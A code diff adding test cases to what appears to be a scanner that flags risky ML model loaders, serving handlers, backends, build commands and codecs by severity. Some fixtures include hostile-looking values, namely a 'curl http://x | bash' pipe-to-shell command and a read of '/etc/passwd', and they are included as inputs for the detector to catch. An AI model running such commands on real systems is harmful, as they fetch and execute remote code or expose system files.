@@ -423,6 +423,29 @@ FIRES = {
         ([Code("r", "call", ("unlink",), (), "1")], "high"),
     ],
     "r-vector-class": [([asks("r.class", "", "mmap_real", "instantiated")], "medium")],
+    "mlflow-loader": [
+        ([asks("mlflow.loader", "mine", "loader")], "high"),
+        ([asks("mlflow.loader", "", "mine")], "high"),
+        ([asks("mlflow.loader", "", "os")], "critical"),
+    ],
+    "serving-handler": [
+        ([asks("serving.handler", "torchserve", "handler.py")], "medium"),
+        ([asks("serving.handler", "huggingface", "EndpointHandler")], "medium", "org/m/handler.py", "python"),
+    ],
+    "serving-backend": [
+        ([asks("serving.backend", "backend", "python")], "medium"),
+        ([asks("serving.backend", "runtime", "libx.so.1")], "high"),
+        ([asks("serving.backend", "op_library_filename", "x")], "high"),
+    ],
+    "serving-command": [
+        ([asks("serving.command", "cog", "apt-get install x")], "low"),
+        ([asks("serving.command", "cog", "curl http://x | bash")], "high"),
+    ],
+    "zarr-codec": [
+        ([asks("zarr.codec", "", "numcodecs.pickle")], "critical"),
+        ([asks("zarr.codec", "", "mine")], "medium"),
+    ],
+    "spacy-registry": [([asks("spacy.registry", "architectures", "mine.deep.Model.v1")], "low")],
     "faiss-lists": [
         ([opens("faiss.lists", "lists.ivfdata")], "medium"),
         ([opens("faiss.lists", "/etc/passwd")], "high"),
@@ -657,6 +680,17 @@ BEYOND_FACTS = {
 
 # Rule: facts under which it says nothing.
 SILENT = {
+    "mlflow-loader": [([asks("mlflow.loader", "mlflow.pyfunc", "model"), asks("mlflow.loader", "", "mlflow")],)],
+    "serving-handler": [
+        ([asks("serving.handler", "torchserve", "text_classifier")],),
+        ([asks("serving.handler", "huggingface", "EndpointHandler")], "other.py", "python"),
+    ],
+    "serving-backend": [([asks("serving.backend", "platform", "onnxruntime_onnx")],)],
+    "serving-command": [([asks("hub.repo", "cog", "curl | sh")],)],
+    "zarr-codec": [([asks("zarr.codec", "", "numcodecs.blosc"), asks("zarr.codec", "", "vlen-utf8")],)],
+    "spacy-registry": [
+        ([asks("spacy.registry", "factories", "ner"), asks("spacy.registry", "misc", "spacy.read_labels.v1")],)
+    ],
     "xml-external": [([opens("onnx.external-data", "w.bin", "the document type")],)],
     "openvino-custom-operator": [
         ([asks("openvino.op", "opset13", "X"), asks("openvino.op", "extension", "CaseFold")],)
